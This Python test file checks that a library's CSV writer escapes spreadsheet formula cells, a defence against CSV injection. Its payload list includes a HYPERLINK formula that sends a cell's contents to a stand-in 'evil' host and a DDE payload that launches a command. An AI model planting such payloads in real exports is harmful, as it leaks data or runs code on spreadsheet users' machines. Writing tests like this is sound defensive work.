"""Cells that a spreadsheet would take for formulas: escaped when that is asked for, and never otherwise."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from zoopipe import CSVInputAdapter, CSVOutputAdapter, JSONInputAdapter, Pipe

# https://owasp.org/www-community/attacks/CSV_Injection
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+1",
    "+49 170 1",
    "-1-1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "-",
    "+",
    "-1e",
    "-5;=1",
]
HARMLESS = ["", "a=1", "1-1", "-5", "+5", "-5.25", "-1e300", "+1.E+5", "a\n=1", " =1", "'=1", "é"]


def written(folder: Path, rows: list[dict[str, Any]], **options: Any) -> list[list[str]]:
    """The cells that Python's csv reads of what is written of rows of JSON."""
    (folder / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    output = CSVOutputAdapter(folder / "out.csv", **options)
    Pipe(JSONInputAdapter(folder / "in.jsonl"), output).run()
    with open(folder / "out.csv", newline="", encoding="utf-8") as file:
        return list(csv.reader(file, delimiter=options.get("delimiter", ",")))[1:]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_formulas_get_an_apostrophe_and_nothing_else_does(tmp_path: Path, delimiter: str) -> None:
    rows = [{"id": 1, "text": text} for text in FORMULAS + HARMLESS]
    found = written(tmp_path, rows, escape_formulas=True, delimiter=delimiter)
    assert [cells[1] for cells in found] == [f"'{text}" for text in FORMULAS] + HARMLESS


def test_nothing_is_escaped_silently(tmp_path: Path) -> None:
    rows = [{"id": 1, "text": text} for text in FORMULAS + HARMLESS]
    assert [cells[1] for cells in written(tmp_path, rows)] == FORMULAS + HARMLESS


def test_numbers_stay_numbers_of_any_type(tmp_path: Path) -> None:
    rows = '{"a":-5,"b":-0.25,"c":-1000000000000000000000000000000,"d":-1e300,"e":-1e999}\n' * 2
    (tmp_path / "in.jsonl").write_text(rows)
    output = CSVOutputAdapter(tmp_path / "out.csv", escape_formulas=True)
    Pipe(JSONInputAdapter(tmp_path / "in.jsonl"), output).run()
    cells = "-5,-0.25,-1000000000000000000000000000000,-1e+300,-Infinity\n"
    assert (tmp_path / "out.csv").read_text() == "a,b,c,d,e\n" + cells * 2


def test_typed_columns_are_escaped_by_what_they_are_written_as(tmp_path: Path) -> None:
    class Row(BaseModel):
        id: int
        wait: timedelta
        name: str | None

    (tmp_path / "in.csv").write_text("id,wait,name\n-1,-PT1H,=x\n2,PT1M,y\n")
    output = CSVOutputAdapter(tmp_path / "out.csv", escape_formulas=True)
    Pipe(CSVInputAdapter(tmp_path / "in.csv"), output, schema_model=Row).run()
    dumped = [Row(id=-1, wait=-3600, name="=x"), Row(id=2, wait=60, name="y")]  # type: ignore[arg-type]
    waits = [row.model_dump(mode="json")["wait"] for row in dumped]
    with open(tmp_path / "out.csv", newline="") as file:
        assert list(csv.reader(file))[1:] == [["-1", f"'{waits[0]}", "'=x"], ["2", waits[1], "y"]]
    assert waits[0].startswith("-")


def test_header_is_escaped_too(tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text("=a,b\n1,2\n")
    output = CSVOutputAdapter(tmp_path / "out.csv", escape_formulas=True)
    Pipe(CSVInputAdapter(tmp_path / "in.csv"), output).run()
    assert (tmp_path / "out.csv").read_text() == "'=a,b\n1,2\n"
